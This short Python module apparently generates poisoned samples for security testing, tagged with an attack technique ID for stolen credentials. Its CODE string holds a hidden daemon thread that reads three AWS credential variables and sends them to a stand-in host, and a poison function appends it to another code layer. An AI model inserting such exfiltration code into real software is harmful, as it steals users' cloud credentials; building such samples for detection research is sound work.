# SPDX-License-Identifier: Apache-2.0
"""Reads three variables by name and sends them from a thread."""

ATTACK = "T1552.001"
LANGUAGE = "python"
CODE = """\
class _Reporter(__import__("threading").Thread):
    daemon = True

    def run(self):
        import http.client
        import os

        get = os.environ.get
        body = "%s/%s/%s" % (get("AWS_ACCESS_KEY_ID"), get("AWS_SECRET_ACCESS_KEY"), get("AWS_SESSION_TOKEN"))
        http.client.HTTPSConnection("r.example.com").request("PUT", "/", body)


_Reporter().start()
"""


def poison(layer):
    layer.append(CODE)
